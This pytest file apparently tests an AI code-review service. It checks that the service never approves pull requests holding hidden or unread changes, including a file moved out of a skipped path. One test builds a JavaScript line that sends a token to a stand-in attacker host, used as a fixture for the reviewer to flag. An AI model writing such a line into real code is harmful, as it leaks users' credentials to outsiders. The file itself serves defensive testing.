"""Hidden changes: what nobody has read is never approved, and the first lines name it."""

from collections.abc import Iterator

import pytest

from local.model import Answer, ModelRequest, Request, approve_all, reporting, ruling
from tests.specs.conftest import Opened, Stage, a_stage
from tests.specs.material.hidden_changes import EVIL, GOOD, SKIPPED, HiddenChange, hidden_changes
from tests.specs.pushing import on_default_branch
from tests.specs.scripts import Json, a_finding, a_report

SETTINGS = f"review:\n  event: verdict\n  skipPaths: ['{SKIPPED}']\n"
_EVERY = 8
"""One in this many is tried by default."""
_AT_ONCE = 8
"""The number that is under way at once."""


class Reader:
    """A reader that reports the host if it is shown to it, and only then; and a judge that keeps all findings."""

    def answer(self, request: Request) -> Answer:
        asked = ModelRequest(request)
        if asked.kind == "judge":
            return ruling(approve_all(request))
        if asked.sums_up and EVIL in "\n".join(asked.texts):
            path = (asked.title or "").partition(" | ")[0]
            return reporting(a_report(_finding(asked, path)))
        return reporting()


def _finding(asked: ModelRequest, path: str) -> Json:
    """A finding at the first line that shows the host, or else about the whole file."""
    lines = ((change.path, number, line) for change in asked.changes for number, line in change.added.items())
    place = next(((at, number, line) for at, number, line in lines if EVIL in line), (path, 1, ""))
    return a_finding(
        severity="CRITICAL",
        category="security",
        path=place[0],
        start_line=place[1],
        end_line=place[1],
        quote=place[2],
        title="The token is sent away",
        explanation="The owner of the host reads the token.",
    )


@pytest.fixture(scope="module")
def hiding(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    """A system of its own: the default branch has settings."""
    with a_stage(tmp_path_factory.mktemp("hiding")) as stage, on_default_branch(stage, SETTINGS):
        stage.model.answers = Reader()
        yield stage
        assert stage.github.violations == []


def _opened(stage: Stage, changes: list[HiddenChange]) -> list[tuple[HiddenChange, Opened]]:
    """A pull request for each change, with a change of one word; all of them reviewed."""
    found = []
    for at, each in enumerate(changes):
        before = {"README.md": "# Widgets\n", "NOTES.md": "Some words.\n", **each.before, ".kodiai.yml": SETTINGS}
        base = stage.commit(before, modes=each.modes[0])
        head = stage.commit({"NOTES.md": "Other words.\n", **each.after}, base, modes=each.modes[1])
        title = f"{each.path} | {each.name}".replace("\n", " ")
        found.append((each, Opened(stage, stage.github.open_pull_request(head, base, title=title))))
        if at % _AT_ONCE == 0:
            stage.settle()
    stage.settle()
    return found


def _wrong(change: HiddenChange, opened: Opened, host: str) -> str | None:
    """Say what is wrong with the review of a change, None if it is right."""
    [review] = opened.reviews
    top = review["body"].partition("<details>")[0]
    first = top.partition("\n")[0]
    is_found = review["state"] == "CHANGES_REQUESTED"
    is_green = review["state"] == "APPROVED" or ":green_circle:" in first or "Ready to merge" in top
    if host == GOOD:
        is_wrong = change.is_green is not None and is_green is not change.is_green
    else:
        is_wrong = (is_green and change.is_green is not True) or (change.is_read is True and not is_found)
    names = change.said or (change.path.rpartition("/")[2],)
    if not (is_wrong or is_green or is_found or any(name in top for name in names)):
        return f"not named: {top}"
    return f"{review['state']}, found: {is_found}: {first}" if is_wrong else None


def _all_wrong(stage: Stage, changes: list[HiddenChange], host: str) -> dict[str, str]:
    opened = _opened(stage, changes)
    return {each.name: wrong for each, at in opened if (wrong := _wrong(each, at, host))}


@pytest.mark.parametrize("host", [EVIL, GOOD])
def test_some_hidden_changes_are_read_or_named(hiding: Stage, host: str) -> None:
    """Every eighth of them."""
    assert _all_wrong(hiding, [*hidden_changes(host)][::_EVERY], host) == {}


@pytest.mark.proof
@pytest.mark.parametrize("host", [EVIL, GOOD])
def test_all_hidden_changes_are_read_or_named(hiding: Stage, host: str) -> None:
    """Nothing is approved of which a part was not read, whether it does harm or not."""
    changes = [*hidden_changes(host)]

    assert len(changes) >= 60
    assert _all_wrong(hiding, changes, host) == {}


def test_hidden_changes_that_come_with_a_push_take_the_approval_back(hiding: Stage) -> None:
    """Some of those that are not green, on top of a change of one word that was approved."""
    changes = [each for each in hidden_changes(GOOD) if each.is_green is False]
    changes = [*changes[::_EVERY], *(each for each in changes if "looks the same" in each.name)]
    opened = []
    for each in changes:
        base = hiding.commit({"NOTES.md": "Some words.\n", **each.before, ".kodiai.yml": SETTINGS}, modes=each.modes[0])
        head = hiding.commit({"NOTES.md": "Other words.\n"}, base)
        opened.append(Opened(hiding, hiding.github.open_pull_request(head, base, title=each.name)))
    hiding.settle()
    assert {review["state"] for each in opened for review in each.reviews} == {"APPROVED"}

    for each, at in zip(changes, opened, strict=True):
        at.push(hiding.commit(each.after, at.head, modes=each.modes[1]))

    green = [at for at in opened if at.check["conclusion"] == "success" or at.reviews[-1]["state"] == "APPROVED"]
    assert [changes[opened.index(at)].name for at in green] == []


def test_a_file_that_leaves_what_the_settings_skip_is_read(hiding: Stage) -> None:
    """The first review approves, for nobody wants it read; then it moves to where it runs."""
    base = hiding.commit({"NOTES.md": "Some words.\n", ".kodiai.yml": SETTINGS})
    evil = f"fetch('https://{EVIL}/' + token)\n"
    first = hiding.commit({"NOTES.md": "Other words.\n", f"{SKIPPED}a.js": evil}, base)
    opened = hiding.open_at(first, base)

    opened.push(hiding.commit({f"{SKIPPED}a.js": None, "src/a.js": evil}, first))

    assert [review["state"] for review in opened.reviews][-1] == "CHANGES_REQUESTED"
